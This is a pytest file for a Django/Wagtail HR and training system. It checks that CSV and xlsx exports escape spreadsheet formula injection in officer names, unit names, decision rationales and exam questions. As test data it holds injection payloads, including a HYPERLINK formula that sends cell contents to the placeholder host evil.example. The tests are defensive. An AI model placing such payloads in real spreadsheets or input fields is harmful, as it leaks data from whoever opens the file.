"""Weakness 8: officer names, unit names and decision rationales were written into exports as live formulas.

Every spreadsheet now goes through `cms.exports`: in xlsx every string is a text cell (read back, `data_type` is
"s" and the text is unchanged), in CSV a value starting with = + - @, a tab or a carriage return gets a leading
apostrophe. Numbers and dates stay numbers and dates.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from analytics import services as analytics_services
from tests.factories import EmploymentSpellFactory, OfficerFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
PAYLOADS = [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes, min_row=1):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=min_row) for cell in row]


def _assert_text_cell(content: bytes, text: str):
    """The exact text is in the workbook, as a text cell, and no cell of the workbook is a formula."""
    cells = _cells(content)
    assert [c for c in cells if c.data_type == "f"] == []
    matching = [c for c in cells if c.value == text]
    assert matching, f"{text!r} not in the workbook"
    assert all(c.data_type == "s" for c in matching)


def _csv_rows(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- the helper itself ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_values_that_start_a_formula_get_an_apostrophe(payload):
    from cms.exports import csv_value

    assert csv_value(payload) == "'" + payload


def test_csv_numbers_dates_and_plain_text_stay_as_they_are():
    from cms.exports import csv_value

    day = datetime.date(2024, 3, 1)
    assert [csv_value(v) for v in (-2, 1.5, Decimal("-0.5"), day, "东华街道", "", None)] == [
        -2,
        1.5,
        Decimal("-0.5"),
        day,
        "东华街道",
        "",
        None,
    ]


# --- the exports ---------------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_officer_csv_export_escapes_names_and_unit_paths(client, superuser, street_east):
    street_east.name = "@SUM(A1)"
    street_east.save()
    for i, payload in enumerate(PAYLOADS):
        OfficerFactory(unit=street_east, user=None, name=payload, employee_no=f"F{i:03d}")
    client.force_login(superuser)
    response = client.get(reverse("officers:index") + "?export=csv")
    assert response.status_code == 200
    rows = _csv_rows(b"".join(response.streaming_content))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + p for p in PAYLOADS}
    # The unit path of those officers starts with the city, so it is safe; the unit's own export is not:
    units = client.get(reverse("units:index") + "?export=csv")
    unit_rows = _csv_rows(b"".join(units.streaming_content))
    assert ["'@SUM(A1)"] == [row[1] for row in unit_rows[1:] if "SUM" in row[1]]


@pytest.mark.django_db
def test_officer_xlsx_export_writes_text_cells(client, superuser, street_east):
    OfficerFactory(unit=street_east, user=None, name=HYPERLINK, employee_no="F001")
    client.force_login(superuser)
    response = client.get(reverse("officers:index") + "?export=xlsx")
    _assert_text_cell(b"".join(response.streaming_content), HYPERLINK)


@pytest.mark.django_db
def test_selection_board_export_writes_names_and_rationales_as_text(
    client, hr_east, district_east, street_east, make_officer
):
    from analytics.models import SelectionBoard

    street_east.name = "=1+1"
    street_east.save()
    officer = make_officer(street_east, username="cand", name=HYPERLINK)
    board = SelectionBoard.objects.create(title="择优选用", unit=district_east, created_by=hr_east)
    board.candidates.set([officer])
    analytics_services.decide(
        board=board, officer=officer, by=hr_east, outcome="extend", rationale="=2+2 @SUM(A1)"
    )
    client.force_login(hr_east)
    response = client.get(reverse("analytics:board_export", args=[board.pk]))
    assert response.status_code == 200
    for text in (HYPERLINK, "=1+1", "=2+2 @SUM(A1)"):
        _assert_text_cell(response.content, text)


@pytest.mark.django_db
def test_exam_results_export_writes_names_and_units_as_text(
    client, training_admin_east, trainee, street_east
):
    from exams import services
    from tests.exams.conftest import make_bank, make_exam

    street_east.name = '=HYPERLINK("http://evil.example")'
    street_east.save()
    trainee.name = HYPERLINK
    trainee.save()
    bank = make_bank()
    exam = make_exam(bank, rules=[{"question_type": "single_choice", "count": 1}])
    services.submit_attempt(
        attempt=services.start_attempt(exam=exam, officer=trainee, by=trainee.user), by=trainee.user
    )
    client.force_login(training_admin_east)
    response = client.get(reverse("exams_results_exam", args=[exam.pk]) + "?export=xlsx")
    assert response.status_code == 200
    _assert_text_cell(response.content, HYPERLINK)
    unit_cell = next(c for c in _cells(response.content, min_row=2) if c.column == 3)
    assert unit_cell.data_type == "s" and "HYPERLINK" in unit_cell.value
    started = next(c for c in _cells(response.content, min_row=2) if c.column == 6)
    assert isinstance(started.value, datetime.datetime)  # dates stay dates


@pytest.mark.django_db
def test_study_hours_export_writes_names_as_text(client, hr_east, trainee):
    from courses import services

    trainee.name = HYPERLINK
    trainee.save()
    services.sync_hours(
        officer_id=trainee.pk,
        source_kind="course",
        source_id=1,
        target=Decimal("2"),
        description="=1+1",
        earned_on=datetime.date.today(),
    )
    client.force_login(hr_east)
    response = client.get("/admin/courses/hours/?format=xlsx")
    assert response.status_code == 200
    _assert_text_cell(response.content, HYPERLINK)


@pytest.fixture
def formula_street(street_east):
    street_east.name = '=HYPERLINK("http://evil.example","x")'
    street_east.save()
    for i in range(2):
        o = OfficerFactory(unit=street_east, user=None, name=f"东{i}")
        EmploymentSpellFactory(officer=o, unit=street_east, hire_date=datetime.date(2021, 3, 1 + i))
    return street_east


DASHBOARD_QUERY = {"period": "year", "start": "2021-01-01", "as_of": "2024-06-30"}


@pytest.mark.django_db
def test_hr_dashboard_csv_export_escapes_unit_names(client, hr_east, formula_street):
    client.force_login(hr_east)
    response = client.get(reverse("analytics:export", args=["funnel", "csv"]), DASHBOARD_QUERY)
    assert response.status_code == 200
    values = [v for row in _csv_rows(response.content) for v in row]
    assert "'" + formula_street.name in values
    assert formula_street.name not in values


@pytest.mark.django_db
def test_hr_dashboard_xlsx_export_writes_unit_names_as_text(client, hr_east, formula_street):
    client.force_login(hr_east)
    response = client.get(reverse("analytics:export", args=["funnel", "xlsx"]), DASHBOARD_QUERY)
    assert response.status_code == 200
    _assert_text_cell(response.content, formula_street.name)


@pytest.mark.django_db
def test_turnover_command_csv_escapes_unit_labels(formula_street):
    out = io.StringIO()
    call_command("turnover", "--period", "year", "--by", "unit", "--format", "csv", stdout=out)
    labels = {row[2] for row in csv.reader(io.StringIO(out.getvalue()))}
    assert "'" + formula_street.name in labels and formula_street.name not in labels


def test_question_exports_keep_formula_like_text_as_text_and_read_it_back():
    from exams.formats import dump, parse

    question = {
        "type": "single_choice",
        "stem": '=HYPERLINK("http://evil.example","题干")',
        "choices": [
            {"text": "+1+1", "fraction": 1.0, "feedback": None},
            {"text": "-2", "fraction": 0.0, "feedback": None},
            {"text": "@SUM(A1)", "fraction": 0.0, "feedback": None},
        ],
    }
    xlsx = dump([question], "xlsx")
    _assert_text_cell(xlsx, question["stem"])
    data = dump([question], "csv")
    rows = _csv_rows(data)
    cells = {v for row in rows for v in row}
    assert "'" + question["stem"] in cells and "'+1+1" in cells and "'-2" in cells and "'@SUM(A1)" in cells
    for fmt, payload in (("xlsx", xlsx), ("csv", data)):  # our own files read back exactly
        (back,) = parse(payload, fmt).questions
        assert back["stem"] == question["stem"]
        assert [c["text"] for c in back["choices"]] == ["+1+1", "-2", "@SUM(A1)"]


@pytest.mark.django_db
def test_every_admin_list_export_goes_through_the_helper():
    """Wagtail's own list export writes CSV values as they are: each viewset that offers one must use the mixin."""
    from django.urls import reverse as _reverse
    from wagtail.admin.viewsets import viewsets

    from cms.exports import SafeSpreadsheetExportMixin

    _reverse("wagtailadmin_home")  # loads the admin URLconf, which registers the viewsets
    exporting = [vs for vs in viewsets.viewsets if isinstance(getattr(vs, "list_export", None), list | tuple)]
    exporting = [vs for vs in exporting if vs.list_export]
    assert len(exporting) >= 4  # officers, units, audit trail, qualifications, enrolments, apprenticeships…
    unsafe = [vs.name for vs in exporting if not issubclass(vs.index_view_class, SafeSpreadsheetExportMixin)]
    assert unsafe == []
